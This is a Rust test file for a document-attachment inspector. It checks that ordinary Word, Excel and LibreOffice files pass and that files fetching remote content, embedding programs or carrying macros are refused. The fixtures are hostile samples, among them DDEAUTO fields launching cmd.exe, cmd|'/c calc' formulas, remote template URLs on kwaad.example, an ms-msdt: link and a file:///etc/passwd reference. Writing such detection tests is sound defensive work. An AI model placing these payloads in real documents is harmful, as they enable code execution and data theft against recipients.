use super::inspect;
use crate::attachments::inspection::tests::{SHEET, WORD, archive, office, open_document};
use domain::attachment::{FileKind, FileProblem};

const TYPES: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

fn relation(kind: &str, target: &str, mode: &str) -> String {
    format!(
        "<Relationships><Relationship Id=\"r1\" Type=\"{TYPES}/{kind}\" Target=\"{target}\"{mode}/></Relationships>"
    )
}

/// A Word document with these relationships.
fn related(relations: &str) -> Result<FileKind, FileProblem> {
    inspect(&office(WORD, &[("word/_rels/document.xml.rels", relations.as_bytes())]))
}

/// A Word document with this in a header.
fn says(text: &str) -> Result<FileKind, FileProblem> {
    let part = format!("<w:hdr xmlns:w=\"w\"><w:p>{text}</w:p></w:hdr>");
    inspect(&office(WORD, &[("word/header1.xml", part.as_bytes())]))
}

/// A text of `LibreOffice` with this in it.
fn writes(text: &str) -> Result<FileKind, FileProblem> {
    let part = format!("<office:document xmlns:xlink=\"x\">{text}</office:document>");
    inspect(&open_document(FileKind::Odt, &[("Object 1/content.xml", part.as_bytes())]))
}

const EXTERNAL: &str = " TargetMode=\"External\"";

#[test]
fn an_ordinary_document_with_links_and_pictures_is_kept() {
    for (kind, target, mode) in [
        ("hyperlink", "https://www.voorbeeld.nl/a?b=c#d", EXTERNAL),
        ("hyperlink", "mailto:bestuur@lindehof.example", EXTERNAL),
        ("hyperlink", "bijlage%201.docx", EXTERNAL),
        ("image", "media/image1.png", ""),
        ("styles", "styles.xml", ""),
        ("package", "embeddings/Blad1.xlsx", ""),
        ("attachedTemplate", "file:///C:\\Users\\Marijke\\Brief.dotx", EXTERNAL),
        ("attachedTemplate", "Normal.dotm", EXTERNAL),
    ] {
        assert_eq!(related(&relation(kind, target, mode)), Ok(FileKind::Docx), "{kind} {target}");
    }
    let sheet = office(SHEET, &[("xl/worksheets/sheet1.xml", b"<x><f>SUM(A1:A3)*'a|b'!B1</f></x>")]);
    assert_eq!(inspect(&sheet), Ok(FileKind::Xlsx));
    let picture = b"<?xml version=\"1.0\"?><!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"a\"><svg/>";
    let parts: [(&str, &[u8]); 2] = [("word/embeddings/Blad1.xlsx", &sheet), ("word/media/image1.svg", picture)];
    assert_eq!(inspect(&office(WORD, &parts)), Ok(FileKind::Docx), "the sheet behind a diagram");
    let page = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>\
                <w:r><w:fldChar w:fldCharType=\"end\"/></w:r><w:fldSimple w:instr=\"DATE\"/>";
    assert_eq!(says(page), Ok(FileKind::Docx));
    for text in [
        "<text:a xlink:href=\"https://www.voorbeeld.nl\"/>",
        "<text:a xlink:href=\"../brief.odt\"/>",
        "<draw:image xlink:href=\"Pictures/1.png\"/>",
        "<draw:object xlink:href=\"./Object 1\"/>",
        "<chart:chart xlink:href=\"..\"/>",
        "<meta:template xlink:href=\"../../../Sjablonen/Brief.ott\"/>",
        "<table:table-cell table:formula=\"of:=SUM([.A1:.A3])\"/>",
        "<office:event-listeners><presentation:event-listener presentation:action=\"next-page\"/></office:event-listeners>",
    ] {
        assert_eq!(writes(text), Ok(FileKind::Odt), "{text}");
    }
}

#[test]
fn a_document_that_fetches_something_is_refused() {
    for (kind, target, mode) in [
        ("attachedTemplate", "https://kwaad.example/a.dotm", EXTERNAL),
        ("attachedTemplate", "\\\\kwaad.example\\deel\\a.dotm", EXTERNAL),
        ("attachedTemplate", "file://kwaad.example/a.dotm", EXTERNAL),
        ("image", "https://kwaad.example/teller.png", EXTERNAL),
        ("oleObject", "https://kwaad.example/a.html!", EXTERNAL),
        ("frame", "https://kwaad.example", " TargetMode=\"&#69;xternal\""),
        ("externalLink", "externalLinks/externalLink1.xml", ""),
        ("externalLinkPath", "Ander.xlsx", EXTERNAL),
        ("connections", "connections.xml", ""),
        ("hyperlink", "file:///c:/windows/system32/cmd.exe", EXTERNAL),
        ("hyperlink", "ms-msdt:/id", EXTERNAL),
    ] {
        assert_eq!(related(&relation(kind, target, mode)), Err(FileProblem::Fetches), "{kind} {target}");
    }
}

#[test]
fn a_field_that_reaches_out_is_found_in_one_piece_or_in_many() {
    let pieces = |pieces: &[&str]| {
        let runs: String =
            pieces.iter().map(|piece| format!("<w:r><w:instrText>{piece}</w:instrText></w:r>")).collect();
        format!(
            "<w:fldChar w:fldCharType=\"begin\"/>{runs}<w:fldChar w:fldCharType=\"separate\"/>x<w:fldChar w:fldCharType=\"end\"/>"
        )
    };
    for field in [
        &pieces(&["DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\""])[..],
        &pieces(&[" dde", "auto ", "cmd"]),
        &pieces(&["D&#68;<![CDATA[E]]> cmd"]),
        &pieces(&["INCLUDETEXT \"https://kwaad.example\""]),
        "<w:fldSimple w:instr=\" DDEAUTO cmd\"/>",
        "<w:instrText>DDE cmd</w:instrText>",
    ] {
        assert_eq!(says(field), Err(FileProblem::Fetches), "{field}");
    }
}

#[test]
fn a_formula_that_reaches_out_is_refused() {
    for formula in ["cmd|'/c calc'!A0", "_xlfn.WEBSERVICE(\"https://kwaad.example\")", "1+DDE(\"a\";\"b\";\"c\")"] {
        let part = format!("<x><f>{formula}</f></x>");
        let sheet = office(SHEET, &[("xl/worksheets/sheet1.xml", part.as_bytes())]);
        assert_eq!(inspect(&sheet), Err(FileProblem::Fetches), "{formula}");
    }
}

#[test]
fn a_document_of_libreoffice_that_fetches_something_is_refused() {
    for text in [
        "<draw:image xlink:href=\"https://kwaad.example/teller.png\"/>",
        "<draw:object xlink:href=\"../../deel/a.ods\"/>",
        "<text:section-source xlink:href=\"file:///etc/passwd\"/>",
        "<table:table-source xlink:href=\"//kwaad.example/a.ods\"/>",
        "<meta:template xlink:href=\"https://kwaad.example/a.ott\"/>",
        "<meta:auto-reload xlink:href=\"https://kwaad.example\"/>",
        "<office:dde-source office:dde-application=\"cmd\"/>",
        "<table:table-cell table:formula=\"of:=DDE(&quot;cmd&quot;;&quot;a&quot;;&quot;b&quot;)\"/>",
        "<text:a xlink:href=\"file:///c:/a.exe\"/>",
    ] {
        assert_eq!(writes(text), Err(FileProblem::Fetches), "{text}");
    }
}

#[test]
fn a_document_that_holds_another_file_is_refused() {
    for kind in ["oleObject", "aFChunk", "control"] {
        assert_eq!(related(&relation(kind, "embeddings/a.bin", "")), Err(FileProblem::HoldsFiles), "{kind}");
    }
    for begin in [&super::OLE[..], b"MZ\x90\0", b"\x7fELF", b"#!/bin/sh"] {
        assert_eq!(inspect(&office(WORD, &[("word/media/image1.png", begin)])), Err(FileProblem::HoldsFiles));
        assert_eq!(inspect(&open_document(FileKind::Odt, &[("Object 1", begin)])), Err(FileProblem::HoldsFiles));
    }
    let sheet = office(SHEET, &[]);
    let nested = office(SHEET, &[("xl/embeddings/a.xlsx", &sheet)]);
    assert_eq!(inspect(&office(WORD, &[("word/embeddings/a.xlsx", &nested)])), Err(FileProblem::HoldsFiles));
    let other = archive(&[("a.exe", b"x")]);
    assert_eq!(inspect(&office(WORD, &[("word/embeddings/a.zip", &other)])), Err(FileProblem::OtherKind));
}

#[test]
fn programs_are_found_under_any_name_and_in_any_spelling() {
    let types = |types: &str| {
        let text = format!("<Types><Override ContentType=\"{WORD}\"/><Override ContentType=\"{types}\"/></Types>");
        inspect(&archive(&[("[Content_Types].xml", text.as_bytes()), ("word/document.xml", b"<w/>")]))
    };
    for spelling in
        ["application/vnd.ms-office.vbaProject", "application/vnd.ms-office.vba&#80;roject", "A.MacroEnabled"]
    {
        assert_eq!(types(spelling), Err(FileProblem::Macros), "{spelling}");
    }
    let entities = "<!DOCTYPE Types [<!ENTITY a \"vba\">]><Types/>";
    assert_eq!(inspect(&archive(&[("[Content_Types].xml", entities.as_bytes())])), Err(FileProblem::Damaged));
    assert_eq!(related(&relation("vbaProject", "foto.png", "")), Err(FileProblem::Macros));
    let held = office(SHEET, &[("xl/vbaProject.bin", b"x")]);
    assert_eq!(inspect(&office(WORD, &[("word/embeddings/a.xlsx", &held)])), Err(FileProblem::Macros));
    let wide = relation("vbaProject", "foto.png", "").encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
    let wide = [&b"\xff\xfe"[..], &wide].concat();
    assert_eq!(inspect(&office(WORD, &[("word/_rels/document.xml.rels", &wide)])), Err(FileProblem::Macros));
    for text in [
        "<script:event-listener xlink:href=\"vnd.sun.star.script:Standard.Module1.Main?language=Basic\"/>",
        "<script:event-listener script:macro-name=\"Main\"/>",
        "<presentation:event-listener presentation:action=\"execute\" xlink:href=\"#a\"/>",
        "<text:a xlink:href=\"vnd.sun.star.script:a\"/>",
    ] {
        assert_eq!(writes(text), Err(FileProblem::Macros), "{text}");
    }
    for action in ["ppaction://program", "ppaction://macro?name=Main", "ppaction://ole?verb=0"] {
        assert_eq!(says(&format!("<a:hlinkClick action=\"{action}\"/>")), Err(FileProblem::Macros), "{action}");
    }
    assert_eq!(says("<a:hlinkClick action=\"ppaction://hlinksldjump\"/>"), Ok(FileKind::Docx));
}
